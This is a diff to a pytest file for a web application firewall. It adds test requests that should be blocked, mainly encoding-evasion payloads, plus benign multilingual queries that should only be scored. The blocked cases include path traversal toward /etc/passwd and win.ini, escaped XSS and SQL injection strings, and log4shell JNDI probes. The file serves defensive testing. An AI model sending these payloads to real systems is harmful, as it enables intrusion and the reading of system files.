@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import re
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -73,6 +74,22 @@ SHIPPED_CASES = [
     ("log4shell encoded", req("/?x=%24%7Bjndi:ldap://a/b%7D"), "block-log4shell-probes", "block"),
     ("log4shell in user agent", req("/", ua="${jndi:ldap://evil/a}"), "block-log4shell-probes", "block"),
     ("log4shell in referer", req("/", headers=[("Referer", "${JNDI:ldap://evil/a}")]), "block-log4shell-probes", "block"),
+    ("overlong utf-8 in the path", req("/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), "block-encoding-evasions", "block"),
+    ("overlong utf-8 double-encoded in the path", req("/a/%25C0%25AE%25C0%25AE/x"), "block-encoding-evasions", "block"),
+    ("overlong utf-8 in the query", req("/download?file=..%c0%af..%c0%afetc%c0%afpasswd"), "block-encoding-evasions", "block"),
+    ("overlong utf-8 double-encoded in the query", req("/d?f=%25c0%25ae%25c0%25ae%25c0%25afetc"), "block-encoding-evasions", "block"),
+    ("three-byte overlong utf-8", req("/d?f=%e0%80%ae%e0%80%ae%e0%80%afetc%e0%80%afpasswd"), "block-encoding-evasions", "block"),
+    ("iis %u escapes of ascii", req("/search?q=%u003cscript%u003ealert(1)"), "block-encoding-evasions", "block"),
+    ("iis %u escapes in a form", req("/comments", method="POST", headers=[("Content-Type", "application/x-www-form-urlencoded")],
+                                     body=b"text=1%u0027%u0020or%u00201=1"), "block-encoding-evasions", "block"),
+    ("full-width dot-dot-slash", req("/files/%ef%bc%8e%ef%bc%8e%ef%bc%8fetc%ef%bc%8fpasswd"), "block-encoding-evasions", "block"),
+    ("dot-dot and a division slash", req("/view?page=..%e2%88%95..%e2%88%95etc%e2%88%95passwd"), "block-encoding-evasions", "block"),
+    ("full-width dots as %u escapes", req("/view?page=%uff0e%uff0e%uff0fwin.ini"), "block-encoding-evasions", "block"),
+    ("latin-1 form text", req("/search?q=caf%E9+cr%E8me+%C0+la+carte"), "score-everything-else", "score"),
+    ("utf-8 text", req("/search?q=%C3%A0+la+carte+%E2%80%A6"), "score-everything-else", "score"),
+    ("japanese with full-width punctuation", req("/search?q=" + quote("東京／大阪（２０２５年）１．５倍、ｉＰｈｏｎｅ")), "score-everything-else", "score"),
+    ("legacy escape() of cjk text", req("/search?q=%u6771%u4EAC%uFF08%uFF11%uFF09"), "score-everything-else", "score"),
+    ("an ellipsis before a path", req("/search?q=" + quote("see… ／docs and ../lib")), "score-everything-else", "score"),
     ("wordpress login", req("/wp-login.php"), "block-wordpress-probes", "block"),
     ("wordpress nested", req("/blog/wp-admin/install.php"), "block-wordpress-probes", "block"),
     ("phpmyadmin", req("/phpMyAdmin/index.php"), "block-phpmyadmin-probes", "block"),
